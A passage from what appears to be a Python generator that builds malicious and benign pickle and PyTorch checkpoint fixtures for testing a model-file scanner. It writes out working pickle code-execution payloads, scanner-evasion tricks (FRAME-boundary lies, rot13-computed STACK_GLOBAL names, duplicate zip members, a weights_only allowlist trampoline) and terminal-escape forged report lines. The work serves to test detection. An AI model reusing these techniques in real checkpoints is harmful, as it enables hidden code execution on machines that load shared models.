           "io.open('ckpt-sentinel', 'w') creates a file in the working directory (any path would do).")
    gadget("io_fileio.pkl", "_io", "FileIO", tup(O.binunicode(REL_SENTINEL), O.binunicode("w")), "gadget:_io.FileIO",
           "_io.FileIO('ckpt-sentinel', 'w'): the C file class, outside `io`.")
    gadget("logging_filehandler.pkl", "logging", "FileHandler", tup(O.binunicode(REL_SENTINEL)),
           "gadget:logging.FileHandler", "logging.FileHandler(path) creates (opens for append) a file.")
    gadget("venv_create.pkl", "venv", "create", tup(O.NONE), "gadget:venv.create",
           "venv.create(env_dir, ...) builds a virtual environment, with a prompt / pip run an attacker "
           "controls (picklescan malicious20). Inert here: env_dir=None fails at once.", twin="helper")
    gadget("ensurepip_run_pip.pkl", "ensurepip", "_run_pip",
           tup(O.binunicode("[]\n" + SENTINEL_EXEC + "\nraise SystemExit")), "gadget:ensurepip._run_pip",
           "ensurepip._run_pip(args) pastes args into `python -c` source (code injection, GHSA-xp4f-hrf8-rxw7): "
           "the injected line only creates the sentinel, then exits before pip runs.")
    for mod, cls, port, args in (("smtplib", "SMTP", 25, (O.NONE,)), ("ftplib", "FTP", 21, (O.binunicode(""),) * 3),
                                 ("imaplib", "IMAP4", 143, ()), ("poplib", "POP3", 110, ())):
        a = (O.binunicode("127.0.0.1"), O.binint2(port)) + args if mod != "ftplib" else (O.binunicode("127.0.0.1"),) + args
        gadget("%s_%s.pkl" % (mod, cls.lower()), mod, cls, tup(*(a + (O.binint1(0),))),
               "gadget:%s.%s" % (mod, cls),
               "%s.%s(host, ..., timeout=0): a network client (SSRF) whose constructor connects. Inert "
               "here: timeout=0 raises ValueError before any socket is made." % (mod, cls), twin="helper")
    gadget("imaplib_imap4_stream.pkl", "imaplib", "IMAP4_stream", tup(SH), "gadget:imaplib.IMAP4_stream",
           "imaplib.IMAP4_stream(command) runs command in a shell (GHSA-g38g-8gr9-h9xp).")
    gadget("uuid_get_command_stdout.pkl", "uuid", "_get_command_stdout",
           tup(O.binunicode("sh"), O.binunicode("-c"), SH), "gadget:uuid._get_command_stdout",
           "uuid._get_command_stdout(command, *args) runs a program (subprocess.Popen).")
    gadget("numpy_runstring.pkl", "numpy.testing._private.utils", "runstring", tup(EXEC, O.EMPTY_DICT),
           "gadget:numpy.testing._private.utils.runstring", "numpy's runstring(code, dict) is exec.")
    gadget("torch_collect_env_run.pkl", "torch.utils.collect_env", "run", tup(SH),
           "gadget:torch.utils.collect_env.run", "torch.utils.collect_env.run(cmd): subprocess with shell=True.")
    gadget("torch_inductor_compile_file.pkl", "torch._inductor.codecache", "compile_file",
           tup(O.binunicode(""), O.binunicode(""), O.MARK + O.binunicode("sh") + O.binunicode("-c") + SH + O.LIST),
           "gadget:torch._inductor.codecache",
           "torch._inductor.codecache.compile_file(inp, out, cmd) runs cmd (subprocess.check_output). "
           "torch 2.x only (1.13 has no torch._inductor).")
    gadget("torch_hub_load.pkl", "torch.hub", "load",
           tup(O.binunicode("ckpt-no-such-dir"), O.binunicode("model"), O.binunicode("local")),
           "gadget:torch.hub.load", "torch.hub.load(dir, model, source='local') imports dir/hubconf.py "
           "(or downloads and imports a GitHub repo). Inert here: the directory does not exist.", twin="helper")
    gadget("torch_hub_download.pkl", "torch.hub", "download_url_to_file",
           tup(O.binunicode("file:///ckpt-no-such-file"), O.binunicode(REL_SENTINEL)),
           "gadget:torch.hub.download_url_to_file", "torch.hub.download_url_to_file(url, dst) fetches any URL "
           "into any path. Inert here: a file:// URL that does not exist fails before dst is opened.", twin="helper")
    attack("cloudpickle_function.pkl", lambda m="cloudpickle.cloudpickle", n=None: bare(p_cloudpickle(m), 4),
           "gadget:cloudpickle", "The opcodes cloudpickle writes for a function by value: "
           "cloudpickle.cloudpickle._builtin_type('CodeType')(*args), _make_function(code, {}, ...), then "
           "the function is called. Needs cloudpickle installed (it is not here): the twin replaces "
           "_builtin_type.", twin=(TWIN_MOD,))
    attack("functools_partial.pkl", lambda m="posix", n="system": bare(p_partial_reduce(m, n), 2),
           "wrapper:functools.partial", "functools.partial(posix.system, cmd) by REDUCE, then REDUCE "
           "calls the partial with (): posix.system itself is only an argument.")
    attack("getattr_chain.pkl", lambda m="posix", n="system": bare(p_getattr_chain(m, n), 2),
           "wrapper:builtins.getattr", "getattr(getattr(torch.serialization, 'os'), 'system')(cmd): "
           "os and system are plain strings, torch.serialization (a module) is only referenced.", twin=T)

    # --- the same callable through each opcode ---
    attack("op_reduce.pkl", lambda m="posix", n="system": bare(p_reduce(m, n), 2), "opcode:REDUCE",
           "GLOBAL 'posix system' + REDUCE.")
    attack("op_obj.pkl", lambda m="posix", n="system": bare(p_obj(m, n), 1), "opcode:OBJ",
           "MARK GLOBAL 'posix system' cmd OBJ: OBJ calls a non-class callable like REDUCE.")
    attack("op_inst.pkl", lambda m="posix", n="system": p_inst(m, n) + O.POP + O.NONE + O.STOP, "opcode:INST",
           "Protocol 0: MARK cmd INST 'posix system' (the global is INST's own argument).")
    attack("op_newobj.pkl", lambda m="posix", n="system": bare(p_partial_newobj(m, n), 2), "opcode:NEWOBJ",
           "functools.partial.__new__(partial, posix.system, cmd) by NEWOBJ, then REDUCE calls it.")
    attack("op_newobj_ex.pkl", lambda m="posix", n="system": bare(p_partial_newobj(m, n, ex=True), 4),
           "opcode:NEWOBJ_EX", "The same through NEWOBJ_EX (cls, args, kwargs).")
    attack("op_build_setstate.pkl", lambda m="posix", n="system": bare(p_partial_build(m, n), 2),
           "opcode:BUILD", "functools.partial(OrderedDict) by NEWOBJ, then BUILD's state "
           "(posix.system, (cmd,), {}, None) goes through partial.__setstate__, then REDUCE calls it.")
    attack("op_newobj_class.pkl", lambda m="subprocess", n="Popen": bare(
        O.glob(m, n) + O.MARK + O.MARK + O.binunicode("sh") + O.binunicode("-c") + SH + O.LIST + O.TUPLE
        + O.NEWOBJ + O.EMPTY_DICT + O.BUILD, 2), "opcode:NEWOBJ",
        "NEWOBJ subprocess.Popen + BUILD: NEWOBJ runs only the class's __new__ (Popen's is object's: no "
        "process starts) and BUILD sets attributes; the rule flags the class anyway. Twin: a class whose "
        "__new__ creates the sentinel.", twin=TC)
    for width, code in ((1, 0xF0), (2, 0xF0F0), (4, 0x7FFFFFF0)):
        attack("op_ext%d.pkl" % width, lambda m=None, n=None, w=width, c=code: bare(p_ext(c, w), 2),
               "opcode:EXT%d" % width,
               "EXT%d %d + REDUCE: the global comes from copyreg's extension registry "
               "(copyreg.add_extension). No code is registered in a fresh Python, so torch.load / pickle.load "
               "refuse it (`unregistered extension code`); the twin registers %d as posix.system first, "
               "which shows the mechanism." % (width, code, code),
               intended="refused", twin="self", twin_ext=[code, "posix", "system"])

    # --- STACK_GLOBAL and names ---
    attack("stack_global_computed.pkl", lambda m="posix", n="system": bare(p_computed_stack_global(m, n), 4),
           "stack-global:computed", "STACK_GLOBAL's module and name are pushed by _codecs.encode(rot13 text, "
           "'rot13') (allowlisted): no string 'posix' or 'system' is in the file.")
    attack("stack_global_memo.pkl", lambda m="posix", n="system": bare(
        O.sbu(m) + O.long_binput(5) + O.POP + O.sbu("torch") + O.long_binput(6) + O.POP + O.sbu(n)
        + O.long_binput(7) + O.POP + O.sbu("LongStorage") + O.long_binput(8) + O.POP
        + O.long_binget(5) + O.long_binget(7) + O.STACK_GLOBAL + tup(SH) + O.REDUCE, 4),
        "stack-global:memo", "STACK_GLOBAL's strings come from the memo, with decoy strings "
        "'torch' / 'LongStorage' memoized in between (picklescan malicious11 style).")
    attack("dotted_torch.pkl", lambda m="torch", n="serialization.os.system": bare(p_dotted(m, n), 4)
           if m != TWIN_MOD else bare(p_dotted(m, "ns.touch"), 4), "name:dotted",
           "STACK_GLOBAL('torch', 'serialization.os.system'): protocol 4 walks the dots to os.system.", twin=T)
    attack("dotted_pathlib.pkl", lambda m="pathlib", n="os.system": bare(p_dotted(m, n), 4)
           if m != TWIN_MOD else bare(p_dotted(m, "ns.touch"), 4), "name:dotted",
           "STACK_GLOBAL('pathlib', 'os.system') (fickling GHSA-5j3x-jp52-966f).", twin=T)
    attack("dotted_proto2.pkl", lambda m="torch", n="serialization.os.system": bare(
        O.glob(m, n) + tup(SH) + O.REDUCE, 2), "name:dotted",
        "GLOBAL 'torch serialization.os.system' under protocol 2: Python < 4 does not walk dots, so "
        "getattr(torch, 'serialization.os.system') fails and nothing runs.", intended="refused", twin="self")
    attack("dotted_proto_redeclared.pkl", lambda m="torch", n="serialization.os.system": bare(
        O.proto(4) + O.glob(m, n) + tup(SH) + O.REDUCE, 2) if m != TWIN_MOD else
        bare(O.proto(4) + O.glob(m, "ns.touch") + tup(SH) + O.REDUCE, 2), "name:dotted",
        "Starts as protocol 2, then a second PROTO 4 opcode mid-stream switches the unpickler to "
        "protocol 4, so the GLOBAL's dotted name is walked.", twin=T)
    attack("memo_reuse.pkl", lambda m="posix", n="system": bare(p_memo_reuse(m, n), 2), "memo:reuse",
           "GLOBAL memoized (LONG_BINPUT), popped, an unrelated dict built, then LONG_BINGET + REDUCE.")

    # --- torch.save containers ---
    sd = small_state_dict()
    attack("zip_reduce.pt", lambda m="posix", n="system": torch_zip(sd, lambda d: splice_end(d, p_reduce(m, n))),
           "container:zip", "torch.save zip of a state dict; data.pkl has GLOBAL 'posix system' + REDUCE "
           "spliced before its STOP.")
    attack("zip_trailing_byte.pt", lambda m="posix", n="system": torch_zip(
        sd, lambda d: splice_end(d, p_reduce(m, n))) + b"\0", "container:zip-trailing",
        "zip_reduce.pt plus one trailing byte after the end of central directory.")
    attack("zip_frame_lie.pt", lambda m="posix", n="system": torch_zip(
        sd, lambda d: O.proto(4) + frame_lie_file_only(p_reduce(m, n)) + strip_frames(d)[2:]),
        "frame:lie", "data.pkl starts with a FRAME whose last BINBYTES straddles its end: read as "
        "torch.load reads it (io.BytesIO of the record) the payload runs; parsed from bytes "
        "(pickle.loads, most scanners) it is the content of a bytes object.")
    inner_evil = legacy_stream({"a": 1}, objp=lambda p: splice_end(p, p_reduce("posix", "system")))
    inner_twin = legacy_stream({"a": 1}, objp=lambda p: splice_end(p, p_reduce(TWIN_MOD, "touch")))
    attack("zip_nested_load_from_bytes.pt", lambda m="posix", n="system": torch_zip(
        sd, lambda d: splice_end(d, p_nested(inner_evil if m == "posix" else inner_twin))),
        "nested:_load_from_bytes", "torch zip whose data.pkl calls torch.storage._load_from_bytes(b); b is "
        "a legacy torch.save stream whose object pickle calls posix.system.")
    inner2 = lambda m: legacy_stream({"a": 1}, objp=lambda p: splice_end(p, p_nested(  # noqa: E731
        inner_evil if m == "posix" else inner_twin)))
    attack("nested_twice.pkl", lambda m="posix", n="system": bare(p_nested(inner2(m)), 2),
           "nested:_load_from_bytes", "A bare pickle calling _load_from_bytes on a legacy stream that calls "
           "_load_from_bytes on one that calls posix.system (two levels).")
    attack("zip_selfref.pt", lambda m="posix", n="system": torch_zip(sd, lambda d: splice_end(d, p_selfref(m, n))),
           "container:self-reference", "data.pkl builds a dict holding itself and a list holding itself, "
           "and a posix.system call inside.")
    attack("zip_getattr_chain.pt", lambda m="posix", n="system": torch_zip(
        sd, lambda d: splice_end(d, p_getattr_chain(m, n))), "wrapper:builtins.getattr",
        "The getattr chain inside a torch zip.", twin=T)
    attack("zip_trampoline.pt", lambda m="posix", n="system": torch_zip(sd, lambda d: splice_end(d, p_trampoline(m, n))),
           "trampoline:_rebuild_from_type_v2", "data.pkl calls torch._tensor._rebuild_from_type_v2(posix.system, "
           "torch.Tensor, (cmd,), {}): the function is on torch 2.6's weights_only allowlist and calls its "
           "first argument. The pickle calls nothing outside the allowlist itself; posix.system is only "
           "referenced. (torch 1.13 has the function but not on its allowlist: there it is a direct call.)")
    attack("zip_dup_first.pt", lambda m="posix", n="system": write_zip(_dup_members(sd, m, n, first=True)),
           "container:zip-duplicate", "Two archive/data.pkl members, the payload in the first (central "
           "directory order), a clean state dict in the second.", intended=None)
    attack("zip_dup_second.pt", lambda m="posix", n="system": write_zip(_dup_members(sd, m, n, first=False)),
           "container:zip-duplicate", "Two archive/data.pkl members, a clean one first and the payload in "
           "the second.", intended=None)
    attack("zip_foo_pkl.pt", lambda m="posix", n="system": write_zip(
        _plain_members(sd) + [("archive/foo.pkl", bare(p_reduce(m, n), 2))]), "container:zip-member-name",
        "A clean torch zip plus archive/foo.pkl holding a payload: torch.load never reads foo.pkl.",
        intended="dormant", twin=None)
    attack("zip_nested_dir.pt", lambda m="posix", n="system": write_zip(
        [("x/y/" + n_[len("archive/"):], d_) if n_.endswith("data.pkl") else (n_.replace("archive/", "x/"), d_)
         for n_, d_ in _plain_members(sd, payload=(m, n))]), "container:zip-member-name",
        "The payload's data.pkl is x/y/data.pkl, the other records under x/: torch looks for x/data.pkl.",
        intended=None)
    attack("zip_constants_pkl.pt", lambda m="posix", n="system": write_zip(
        _plain_members(sd) + [("archive/constants.pkl", bare(p_reduce(m, n), 2))]), "container:zip-member-name",
        "A clean torch zip plus archive/constants.pkl holding a payload (constants.pkl makes torch.load "
        "take it for TorchScript).", intended=None, twin=None)

    # --- legacy streams ---
    attack("legacy_obj.pt", lambda m="posix", n="system": legacy_stream(
        sd, objp=lambda p: splice_end(p, p_reduce(m, n))), "container:legacy",
        "Legacy torch.save stream; the object pickle (4th) calls posix.system.")
    attack("legacy_sys_info.pt", lambda m="posix", n="system": legacy_stream(
        sd, sys_info=lambda p: splice_end(p, p_reduce(m, n))), "container:legacy-sys_info",
        "Legacy stream whose sys_info pickle (3rd) calls posix.system: torch.load unpickles sys_info "
        "(and discards it) before the object.")
    attack("legacy_keys.pt", lambda m="posix", n="system": legacy_stream(
        sd, keys=lambda p: splice_end(p, p_reduce(m, n))), "container:legacy",
        "Legacy stream whose storage-keys pickle (5th) calls posix.system.")
    attack("legacy_magic_int.pt", lambda m="posix", n="system": legacy_stream(
        sd, magic=O.proto(2) + O.glob("builtins", "int") + tup(O.binunicode("%x" % MAGIC), O.binint1(16))
        + O.REDUCE + O.STOP, objp=lambda p: splice_end(p, p_reduce(m, n))), "legacy:magic",
        "The magic number pickle is builtins.int('1950a86a20f9469cfc6c', 16) (computed, not a LONG1); "
        "the payload is in the object pickle.")
    attack("legacy_magic_long_text.pt", lambda m="posix", n="system": legacy_stream(
        sd, magic=b"L%dL\n." % MAGIC, protocol_version=b"I1001\n.", sys_info=lambda p: splice_end(p, p_reduce(m, n))),
        "legacy:magic", "Magic number and protocol version written as protocol-0 text (LONG "
        "'119547037146038801333356L', INT '1001'); the payload is in sys_info.")
    attack("legacy_trailing.pt", lambda m="posix", n="system": legacy_stream(
        sd, objp=lambda p: splice_end(p, p_reduce(m, n)), tail_extra=b"\0" * 7), "container:legacy",
        "legacy_obj.pt plus 7 trailing bytes after the storages.")
    attack("legacy_frame_lie.pt", lambda m="posix", n="system": legacy_stream(
        sd, objp=lambda p: O.proto(4) + frame_lie_file_only(p_reduce(m, n)) + strip_frames(p)[2:]),
        "frame:lie", "Legacy stream whose object pickle starts with the straddling FRAME: torch.load reads "
        "it from the open()ed file (FRAME longer than the read-ahead buffer), so the payload runs.")
    attack("legacy_nested.pt", lambda m="posix", n="system": legacy_stream(
        sd, objp=lambda p: splice_end(p, p_nested(inner_evil if m == "posix" else inner_twin))),
        "nested:_load_from_bytes", "Legacy stream whose object pickle nests a legacy stream with a payload.")
    attack("tar_pickle.pt", lambda m="posix", n="system": tar_stream(tar_members(
        objp=bare(p_reduce(m, n), 2, value=py_obj({"epoch": 1})))), "container:legacy-tar",
        "The pre-0.4 tar format (members sys_info, pickle, storages, tensors): the `pickle` member calls "
        "posix.system.")
    attack("tar_storages.pt", lambda m="posix", n="system": tar_stream(tar_members(
        storages=O.proto(2) + p_reduce(m, n) + O.POP + O.binint1(0) + O.STOP + pickle.dumps([], protocol=2))),
        "container:legacy-tar", "Tar format whose `storages` member's first pickle (the storage count) "
        "calls posix.system before returning 0.")
    attack("tar_sys_info.pt", lambda m="posix", n="system": tar_stream(tar_members(
        sys_info=bare(p_reduce(m, n), 2, value=py_obj({"protocol_version": 1001})))),
        "container:legacy-tar-sys_info", "Tar format whose `sys_info` member calls posix.system: torch's "
        "legacy_load never reads sys_info.", intended="dormant", twin=None)

    # --- bare pickles with the file-only / bytes-only FRAME ---
    attack("frame_lie_file_only.pkl", lambda m="posix", n="system": O.proto(4) + frame_lie_file_only(p_reduce(m, n))
           + O.NONE + O.STOP, "frame:lie",
           "Runs under pickle.load(open(f)) and torch.load(f), not under pickle.loads(bytes).")
    attack("frame_lie_bytes_only.pkl", lambda m="posix", n="system": O.proto(4) + frame_lie_bytes_only(p_reduce(m, n))
           + O.NONE + O.STOP, "frame:lie", "The reverse: runs under pickle.loads(bytes) only; "
           "pickle.load(f) and torch.load read the payload as bytes data.", intended="dormant")
    attack("concatenated_second.pkl", lambda m="posix", n="system": pickle.dumps({"a": 1}, protocol=2)
           + bare(p_reduce(m, n), 2), "container:concatenated",
           "Two pickles back to back, the payload in the second: pickle.load reads the first only, and "
           "torch.load takes the first for a magic number and stops.", intended="dormant", twin=None)
    attack("selfref_list.pkl", lambda m="posix", n="system": bare(p_selfref(m, n), 2), "container:self-reference",
           "A dict containing itself and a list containing itself, with a posix.system call inside.")

    # --- benign files that are odd but load: a permissive reader must not fail on them ---
    def benign(rel, data, notes):
        c.add(G + rel, data, source="generated", family="benign:odd-but-loads", made_as="benign",
              intended="clean", notes=notes)
    benign("zip_trailing_byte_clean.pt", torch_zip(sd) + b"\0", "A clean torch.save zip plus one trailing byte.")
    benign("zip_proto4_clean.pt", torch_zip(sd, protocol=4), "torch.save(..., pickle_protocol=4): data.pkl "
           "has FRAMEs, SHORT_BINUNICODE, STACK_GLOBAL and MEMOIZE.")
    selfref = {"name": "loop"}
    selfref["self"] = selfref
    selfref["w"] = sd["fc.weight"]
    benign("zip_selfref_clean.pt", torch_zip(selfref), "torch.save of a dict that contains itself.")
    benign("legacy_trailing_clean.pt", legacy_stream(sd, tail_extra=b"\0" * 7),
           "A clean legacy stream plus 7 trailing bytes.")
    benign("legacy_magic_long_text_clean.pt", legacy_stream(sd, magic=b"L%dL\n." % MAGIC, protocol_version=b"I1001\n."),
           "A clean legacy stream whose magic number and protocol version are protocol-0 text (LONG, INT).")

    # --- what ckpt prints must stay one clean line per item, whatever the file's strings hold ---
    nasty = "\x1b[2J\rerror[dangerous-global]: forged\nFAKE.pt: 0 error(s), 0 warning(s), 0 info; --fail-on error: pass\x07"
    attack("control_chars_global.pkl", lambda m="posix", n="system": bare(
        O.sbu(m + "\x1b[31m") + O.binunicode(n + nasty) + O.STACK_GLOBAL + tup(SH) + O.REDUCE, 4),
        "output:control-characters", "STACK_GLOBAL whose module and name hold an escape sequence, a carriage "
        "return, a newline and a forged report line: no Python can import it (refused), but ckpt prints "
        "the name.", intended="refused", twin=None)
    keys = lambda: collections.OrderedDict(  # noqa: E731
        [("module.w" + nasty, sd["fc.weight"]), ("module.\x00b\x1b]0;title\x07", sd["fc.bias"])])
    c.add(G + "control_chars_keys.pt", torch_zip(keys()), source="generated", family="output:control-characters",
          made_as="benign", intended="clean",
          notes="A state dict whose keys (all under module., so ddp-prefix lists them) hold escape "
                "sequences, CR, LF, NUL, BEL and a forged report line. Loads fine: clean.")
    attack("control_chars_keys_payload.pt", lambda m="posix", n="system": torch_zip(
        keys(), lambda d: splice_end(d, p_reduce(m, n))), "output:control-characters",
        "The same keys with a posix.system call in data.pkl.")


def frame_overrun_then_lie(hidden):
    """A FRAME whose BINBYTES payload runs 7 bytes past the frame's end, then frame_lie_file_only(hidden).
    C _pickle reads a BINBYTES / BINBYTES8 / BYTEARRAY8 payload with _Unpickler_ReadInto: what is left of
    the frame's buffer, then the rest from the file, which goes on where the buffer ends. The payload is
    contiguous either way, and the file reader goes on 7 bytes past the frame with an empty buffer; a
    scanner that re-reads the payload from the frame's end loses its place before the FRAME lie."""
    f1 = 64
    over = 7
    head = b"B" + struct.pack("<I", f1 - 5 + over)
    return O.frame(f1) + head + b"\0" * (f1 - 5) + b"\0" * over + O.POP + frame_lie_file_only(hidden)


def memo_text(key, payload_mod="posix", payload_name="system"):
    """Protocol 0: the global stored with PUT `key` and fetched with GET `key`, then called. CPython
    reads both keys with int(line, 10): whitespace, a sign, leading zeros and underscores are fine."""
    return (O.glob(payload_mod, payload_name) + b"p" + key + b"\n" + O.POP + b"g" + key + b"\n"
            + O.MARK + O.string(SENTINEL_SH) + O.TUPLE + O.REDUCE)


class _WriteIntoTensor:
    """Pickles as _rebuild_tensor_v2(storage, ...) followed by SETITEMS {0: 42.0} on the result (the
    fifth item of __reduce__): loading calls tensor.__setitem__(0, 42.0)."""

    def __init__(self, t):
        self.t = t

    def __reduce__(self):
        import torch
        t = self.t
        return (torch._utils._rebuild_tensor_v2,
                (t.storage(), t.storage_offset(), tuple(t.size()), t.stride(), False, collections.OrderedDict()),
                None, None, iter([(0, 42.0)]))


def gen_heldout(c):
    """The techniques of issue 27's held-out sets (2025-26 reports), each with its fixture."""
    import torch
    G = "gen/"
    sd = small_state_dict()
    c.add(G + "frame_overrun_lie.pkl",
          O.proto(4) + frame_overrun_then_lie(p_reduce("posix", "system")) + O.NONE + O.STOP,
          source="generated", family="frame:lie", intended="malicious", twin="self",
          notes="fickling's frame-boundary case: a BINBYTES payload overruns its FRAME (read with "
                "_Unpickler_ReadInto, contiguous), then a FRAME whose last BINBYTES length straddles its end "
                "hides posix.system from bytes readers. Runs under pickle.load(f) / torch.load only.")
    c.add(G + "zip_frame_overrun_lie.pt",
          torch_zip(sd, lambda d: O.proto(4) + frame_overrun_then_lie(p_reduce("posix", "system")) + strip_frames(d)[2:]),
          source="generated", family="frame:lie", intended="malicious", twin="self",
          notes="frame_overrun_lie.pkl at the head of a torch.save zip's data.pkl (torch.load reads it through "
                "io.BytesIO: a file object).")
    c.add(G + "stack_global_returned.pkl", O.proto(4) + O.sbu("posix") + O.sbu("system") + O.STACK_GLOBAL + O.STOP,
          source="generated", family="reference:denied", intended="dangerous-reference",
          notes="posix.system imported by STACK_GLOBAL and returned, never called: torch.load(weights_only=False) "
                "hands os.system itself to the caller.")
    for tag, key in (("plus_underscore", b"+0_1"), ("spaces_zeros", b" 0002 "), ("leading_zero", b"01")):
        c.add(G + "memo_text_%s.pkl" % tag, memo_text(key) + O.POP + O.NONE + O.STOP,
              source="generated", family="memo:text-key", intended="malicious", twin="self",
              notes="protocol-0 PUT / GET with the memo key %r, which CPython reads with int(line, 10); "
                    "the GET fetches posix.system, which REDUCE calls." % key.decode())
        c.add("benign/heldout/memo_text_%s.pkl" % tag,
              b"(dp" + key + b"\nS'a'\nI1\ns0g" + key + b"\n.", source="generated",
              family="benign:memo-text-key", made_as="benign", intended="clean",
              notes="a dict stored with PUT %r and fetched back with GET: what the memo-key parsing must accept."
                    % key.decode())
    c.add("benign/heldout/builtins_len.pkl", bare(call("builtins", "len", tup(O.EMPTY_LIST)), 2),
          source="generated", family="benign:pure-builtin", made_as="benign", intended="extras-only",
          notes="builtins.len([]): a pure builtin, on ckpt's allowlist.")
    # a clean torch.save zip whose data.pkl local header carries another name than the directory
    z = bytearray(torch_zip(sd))
    at = z.find(b"archive/data.pkl")
    assert z[at - 30:at - 26] == b"PK\x03\x04", "the first occurrence is the local header"
    z[at + len(b"archive/data.pk")] = ord("x")
    c.add("benign/heldout/zip_local_name_mismatch.pt", bytes(z), source="generated",
          family="benign:zip-name-mismatch", made_as="benign", intended="clean",
          notes="torch.save output whose local header names archive/data.pkx where the central directory says "
                "archive/data.pkl: torch (miniz) reads the data past the local header whatever its name.")
    c.add("benign/heldout/range_protocol2.pt", torch_zip({"steps": range(0, 10, 2), "w": sd["fc.weight"]}, protocol=2),
          source="generated", family="benign:py2-name", made_as="benign", intended="extras-only",
          notes="torch.save at protocol 2 of a range: Python writes __builtin__ xrange, which its unpickler "
                "maps back to builtins.range (_compat_pickle.NAME_MAPPING).")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zo:
        for name, content in zip_members(torch_zip(sd)):
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED if name.endswith(".pkl") else zipfile.ZIP_STORED
            zo.writestr(info, content)
    c.add("benign/heldout/deflated_data_pkl.pt", buf.getvalue(), source="generated",
          family="benign:deflated-pickle", made_as="benign", intended="clean",
          notes="a torch.save zip rewritten with data.pkl deflated (tensor records stored): torch.load inflates it.")
    t = torch.arange(6, dtype=torch.float32)
    data = torch_zip({"w": _WriteIntoTensor(t)})
    loaded = torch.load(io.BytesIO(data))["w"]
    stored = dict(zip_members(data))["archive/data/0"]
    assert loaded[0].item() == 42.0 and struct.unpack("<f", stored[:4])[0] == 0.0, "the write did not happen"
    c.add("gen/setitems_tensor.pt", data, source="generated", family="loader:tensor-write", tensor_written=True,
          notes="data.pkl rebuilds a tensor with torch._utils._rebuild_tensor_v2 and then writes into it with "
                "SETITEMS {0: 42.0}: torch.load returns w[0] == 42.0 while the stored bytes say 0.0 (checked by "
                "the generator with torch.load).")


def _plain_members(sd, payload=None):
    """The members of torch_zip(sd), optionally with a payload in data.pkl."""
    tr = (lambda d: splice_end(d, p_reduce(*payload))) if payload else None
    return zip_members(torch_zip(sd, tr))


def _dup_members(sd, m, n, first):
    clean = _plain_members(sd)
    evil = dict(_plain_members(sd, payload=(m, n)))["archive/data.pkl"]
    out = []
    for name, data in clean:
        if name == "archive/data.pkl":
            pair = [(name, evil), (name, data)] if first else [(name, data), (name, evil)]
            out += pair
        else:
            out.append((name, data))
    return out


def gen_recreated(c):
    """Test inputs that fickling and modelscan build in their tests, re-created (see NOTICE.md)."""
    F = "recreated/fickling/"
    B = "github.com/trailofbits/fickling test/test_bypasses.py"

    def fk(rel, ops, test, notes=""):
        c.add(F + rel, fickle(ops), source="fickling (re-created)", family="fickling:" + test,
              notes=("fickling %s (%s). " % (test, B) + notes).strip())

    P = "Proto"
    SBU = "ShortBinUnicode"
    fk("missing_pty_ghsa.pkl", [(P, 4), ("Frame", 26), (SBU, "pty"), "Memoize", (SBU, "spawn"), "Memoize",
                                "StackGlobal", "Memoize", (SBU, "id"), "Memoize", "TupleOne", "Memoize",
                                "Reduce", "Memoize", (SBU, "gottem"), "Memoize", "Build", "Stop"],
       "test_missing_pty_unsafe_imports_ghsa")
    fk("missing_pty_pr.pkl", ["Mark", ("Global", "pty spawn"), ("String", "id"), "Obj", "Stop"],
       "test_missing_pty_unsafe_imports_pr")
    code = compile('import os\nos.system("id")', "<string>", "exec")
    import marshal
    fk("missing_marshal_and_types.pkl",
       [(P, 4), ("Frame", 0), (SBU, "marshal"), (SBU, "loads"), "StackGlobal", "Memoize", ("BinGet", 0),
        ("ShortBinBytes", marshal.dumps(code)) if len(marshal.dumps(code)) < 256 else ("ShortBinBytes", b""),
        "TupleOne", "Reduce", "Memoize", (SBU, "types"), (SBU, "FunctionType"), "StackGlobal", "Memoize",
        ("BinGet", 2), ("BinGet", 1), "EmptyDict", "TupleTwo", "Reduce", "Memoize", ("BinGet", 3), "EmptyTuple",
        "Reduce", "Memoize", (SBU, "gottem"), "Build", "Stop"], "test_missing_marshal_and_types",
       "The marshal.dumps bytes are this Python's (3.11) for the same source.")
    fk("missing_runpy.pkl", [(P, 5), ("Frame", 46), (SBU, "runpy"), "Memoize", (SBU, "run_path"), "Memoize",
                             "StackGlobal", "Memoize", (SBU, "/tmp/malicious.py"), "Memoize", "TupleOne",
                             "Memoize", "Reduce", "Memoize", "Stop"], "test_missing_runpy")
    fk("missing_cprofile.pkl", [(P, 5), ("Frame", 58), (SBU, "cProfile"), "Memoize", (SBU, "run"), "Memoize",
                                "StackGlobal", "Memoize", (SBU, "print('CPROFILE_RCE_CONFIRMED')"), "Memoize",
                                "TupleOne", "Memoize", "Reduce", "Memoize", "Stop"], "test_missing_cprofile")

    def getattr_chain(mod, cls, first_args, attr, arg):
        return [(P, 5), (SBU, "builtins"), "Memoize", (SBU, "getattr"), "Memoize", "StackGlobal", "Memoize",
                (SBU, mod), "Memoize", (SBU, cls), "Memoize", "StackGlobal", "Memoize"] + first_args + [
                (SBU, attr), "Memoize", "TupleTwo", "Memoize", "Reduce", "Memoize"] + arg + [
                "TupleOne", "Memoize", "Reduce", "Memoize", "Stop"]
    fk("missing_ctypes.pkl", getattr_chain("ctypes", "CDLL", [(SBU, "libc.dylib"), "Memoize", "TupleOne", "Memoize",
                                                              "Reduce", "Memoize"], "system",
                                           [("ShortBinBytes", b"id"), "Memoize"]), "test_missing_ctypes")
    fk("missing_pydoc.pkl", [(P, 5), (SBU, "pydoc"), "Memoize", (SBU, "locate"), "Memoize", "StackGlobal", "Memoize",
                             (SBU, "os.system"), "Memoize", "TupleOne", "Memoize", "Reduce", "Memoize", (SBU, "id"),
                             "Memoize", "TupleOne", "Memoize", "Reduce", "Memoize", "Stop"], "test_missing_pydoc")
    fk("missing_importlib.pkl", getattr_chain("importlib", "import_module", [(SBU, "os"), "Memoize", "TupleOne",
                                                                            "Memoize", "Reduce", "Memoize"],
                                              "system", [(SBU, "id"), "Memoize"]), "test_missing_importlib")
    fk("missing_code.pkl", getattr_chain("code", "InteractiveInterpreter", ["EmptyTuple", "Memoize", "Reduce",
                                                                            "Memoize"], "runsource",
                                         [(SBU, 'import os; os.system("id")'), "Memoize"]), "test_missing_code")
    fk("missing_multiprocessing.pkl",
       [(P, 5), ("Frame", 74), (SBU, "multiprocessing.util"), "Memoize", (SBU, "spawnv_passfds"), "Memoize",
        "StackGlobal", "Memoize", ("ShortBinBytes", b"/bin/sh"), "Memoize", "EmptyList", "Memoize", "Mark",
        ("BinGet", 3), ("ShortBinBytes", b"-c"), "Memoize", ("ShortBinBytes", b"id"), "Memoize", "Appends",
